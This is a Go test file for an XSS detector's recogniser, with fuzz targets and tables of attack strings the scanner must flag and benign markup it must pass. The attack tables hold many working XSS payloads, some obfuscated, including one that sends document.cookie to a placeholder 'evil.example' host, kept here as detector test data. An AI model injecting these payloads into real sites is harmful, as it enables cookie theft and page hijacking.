package detect

import "testing"

// weightOf returns the strongest weight of a class in v.
func weightOf(c Class, v string, w Where) float32 {
	var s Scanner
	best := float32(0)
	for _, f := range s.Scan([]byte(v), &w) {
		if f.Class == c {
			best = max(best, f.Weight)
		}
	}
	return best
}

// suffices is the weight from which a finding alone marks a request; tests of
// the recognisers compare with it.
const suffices = 0.5

// recognises checks that a class is found in each attack and in no benign
// value.
func recognises(t *testing.T, c Class, w Where, attacks, benign []string) {
	t.Helper()
	for _, v := range attacks {
		if got := weightOf(c, v, w); got < suffices {
			t.Errorf("missed with %.2f: %q", got, v)
		}
	}
	for _, v := range benign {
		if got := weightOf(c, v, w); got >= suffices {
			t.Errorf("found with %.2f: %q", got, v)
		}
	}
}

// holds checks what every finding promises: spans and tokens inside the
// value, a weight, a reason.
func holds(t *testing.T, v []byte, findings []Finding) {
	t.Helper()
	for _, f := range findings {
		if f.From < 0 || f.To < f.From || int(f.To) > len(v) {
			t.Fatalf("%q: span %d:%d of %d bytes: %s", v, f.From, f.To, len(v), f.Reason)
		}
		if f.Weight <= 0 || f.Weight > 1 || f.Reason == "" {
			t.Fatalf("%q: weight %v, reason %q", v, f.Weight, f.Reason)
		}
		for _, tok := range f.Tokens {
			if tok.From < f.From || tok.To < tok.From || tok.To > f.To {
				t.Fatalf("%q: token %+v outside of %d:%d", v, tok, f.From, f.To)
			}
		}
	}
}

// fuzz is the body of the classes' fuzz targets: no panic, and what every
// finding promises.
func fuzz(f *testing.F, c Class) {
	for _, v := range seeds[c] {
		f.Add([]byte(v))
	}
	var scan func(s *Scanner, v []byte, w *Where)
	for _, d := range detectors {
		if d.class == c {
			scan = d.scan
		}
	}
	f.Fuzz(func(t *testing.T, v []byte) {
		var s Scanner
		for _, w := range places {
			s.findings, s.tokens = s.findings[:0], s.tokens[:0]
			scan(&s, v, &w)
			holds(t, v, s.findings)
		}
	})
}

func FuzzXSS(f *testing.F) { fuzz(f, XSS) }

func TestXSS(t *testing.T) {
	recognises(t, XSS, Where{Place: InQuery}, []string{
		`<script>alert(1)</script>`,
		`<ScRiPt/x>prompt(1)`,
		"<scr\x00ipt>alert(1)</script>",
		`<script src=//evil.example/x.js></script>`,
		`"><script>alert(document.cookie)</script>`,
		`<img src=x onerror=alert(1)>`,
		`this[/al/.source+/ert/.source](/x/.source);//`,
		`<img src="x"onerror=alert(1)>`,
		"<svg/onload=alert`1`>",
		"<svg\x0conload=confirm(1)>",
		`<svg><script href=data:,alert(1) />`,
		`<details open ontoggle=print()>`,
		`<div onpointerenter="x=1;y(x)">`,
		`" onmouseover="alert(1)`,
		`' autofocus onfocus='alert(1)`,
		`x onerror=alert(1)`,
		`javascript:alert(1)`,
		"<a href=\"jav\tascript:alert(1)\">x</a>",
		`<a href="java&#115;cript&colon;alert(1)">x</a>`,
		`<a href=" &#14;  javascript:alert(1)">`,
		`<iframe src="data:text/html,<script>alert(1)</script>">`,
		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
		`<form action=javascript:alert(1)><input type=submit>`,
		`<button formaction=//evil.example>go`,
		`<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<div style="width:exp/**/ression(alert(1))">`,
		`<style>@import'//evil.example/x.css';</style>`,
		`<p style="x:\65xpression(alert(1))">`,
		`<animate attributeName=href values=javascript:alert(1) />`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`</script><svg onload=alert(1)>`,
		`';alert(1)//`,
		`"-alert(1)-"`,
		`\';alert(1)//`,
		`*/alert(1)/*`,
		"${alert(document.domain)}",
		`');fetch('//evil.example/'+document.cookie)//`,
		`alert(document.domain)`,
		`window.alert("hello there");`,
		`eval(location.hash.slice(1))`,
		`top["al"+"ert"](1)`,
		`[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]`,
		`\u0061lert(1)`,
		`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		"\xbcscript\xbealert(1)\xbc/script\xbe",
		"\xbcimg src=x onerror=x\xbe",
		"＜script＞alert(1)＜/script＞",
		`<<script>alert(1)//<</script>`,
		`[x](javascript:alert(1))`,
		`<img src=x onerror="onerror=alert;throw 1">`,
	}, []string{
		"", "hello", "a < b and c > d", "<3", "\x11\xd0\xbcImG\xdc\xb0\xa1\x00h", "\x9csvg\xbe\xf1\x80\x02", // of a compressed file
		"List<String>", "Map<String, List<Integer>> m = new HashMap<>();",
		"Ann <ann@example.com>", "how to centre <div> in <body>", "which <a href=#> is it",
		"```js\nconst a = () => b(c);\n```", "see [docs](https://example.com/a(b))", "JavaScript: The Good Parts",
		"I got an alert (see below) and had to confirm it", "the prompt said: yes", "O'Reilly", `he said "yes - alert me"`,
		"one=1&only=2&online=true", `{"onclick":"x"}`, "data: 12", "data:image/png;base64,iVBORw0KGgo=",
		"f(x) = x^2 + 3", "var x = document.getElementById('a');", "https://example.com/?q=a=b;c=d", "if (a<b && c>d) return",
		"- [ ] ( ) [x] ( ) [ ] ( ) todo", "<!-- wp:paragraph --><p>Hi</p><!-- /wp:paragraph -->",
	})
	recognises(t, XSS, Where{Place: InForm}, []string{
		`<div style="background:url(/a[b]oo/;color:red/*/foo.jpg);">X</div>`, `<p style="font-family:a}color=red;">`,
	}, markupOfEditors)
	recognises(t, XSS, Where{Place: InQuery}, markupOfEditors[1:], []string{
		markupOfEditors[0], "<h3>Tips for &lt;b&gt;</h3>", "how to use <code>fetch</code>", "<ul><li>one<li>two</ul>",
	})
}

// markupOfEditors is what they put into forms, and no page into its links,
// but for the first, which people search for.
var markupOfEditors = []string{
	"<b>bold</b> <i>it</i> <p>text</p>",
	`<a href="https://example.com/a?b=1" target="_blank" rel="noopener">x</a>`,
	`<img src="https://example.com/a.png" alt="x" width="3">`,
	`<table class="t"><tr><td style="text-align:left">1</td></tr></table>`,
	`<iframe width="560" height="315" src="https://www.youtube.com/embed/abc" title="v" allowfullscreen></iframe>`,
	`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0"/></svg>`,
}

func TestXSSAllocatesNothing(t *testing.T) {
	values := [][]byte{[]byte(`<p class="x">a <b>b</b> <a href="https://example.com">c</a></p>`), []byte(`"><img src=x onerror=alert(1)>`)}
	var s Scanner
	if n := testing.AllocsPerRun(100, func() {
		for _, v := range values {
			s.Scan(v, &Where{Place: InQuery})
		}
	}); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func TestXSSHidesNames(t *testing.T) {
	for _, p := range []Place{InQuery, InForm} {
		recognises(t, XSS, Where{Place: p}, []string{
			`this['\x61\x6c\x65\x72\x74'](1);//`, `this['ale'+'rt'](this['doc'+'ument']['dom'+'ain']);//`, `this['\141\154'](1)`,
			"(0,alert)(1)", "[alert][0].call(null,1)", "{onerror=alert}throw 23", "onerror=alert;throw 1",
		}, []string{
			"x = this['name'](1); y", "x = this['a' + x](1); y", "this['on' + type].call(this)", "this['a']['b'+'c']", "callback=alert", "on=(alert)", "a (alert) (see below)", "level=alert; throw away",
		})
	}
}

func TestXSSKnowsSentences(t *testing.T) {
	recognises(t, XSS, Where{Place: InForm}, []string{
		"The <script> tag calls alert(1) here", "the <script> of a page</script><img src=x onerror=alert(1)>",
		"see the <script> and a = b", "the good <script>x", "<script> put it here", "see <script src=//a.example> in a page",
		"the <script> name <!--<script> </script>\nfetch('//h.example')</script>", "a <script> name </scripty>/\nfetch('//h.example')</script>", "the <script> x /* y",
		"<p title='see <b> it'>the <script> name </scripts>/.x;fetch('//h.example')</script>",
		"see this <script> import{a} from", "see this <script> tag `x`",
	}, []string{
		"The <script> tag is used to embed JavaScript in a page.", "It stands between <script> and </script> in the body.",
		"browsers dropped the <object> and <embed> elements", "Use a <script> for this,\nand not a <style> here.",
	})
}
